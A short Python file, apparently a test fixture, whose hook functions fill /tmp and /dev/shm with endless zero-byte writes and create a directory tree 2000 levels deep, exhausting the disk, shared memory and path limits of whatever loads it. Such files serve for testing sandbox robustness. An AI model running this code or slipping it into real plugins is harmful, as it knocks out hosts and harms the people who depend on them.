import itertools
import os


def fill(folder):
    for number in itertools.count():
        with open(os.path.join(folder, f"full-{number}"), "wb") as file:
            while True:
                file.write(bytes(1 << 20))


def start_process(target):
    fill("/tmp")


def run_process(target):
    fill("/dev/shm")


def process_state(process):
    folder = "."
    for _ in range(2000):
        os.mkdir(folder + "/d")
        os.chdir(folder + "/d")
    return "deep"
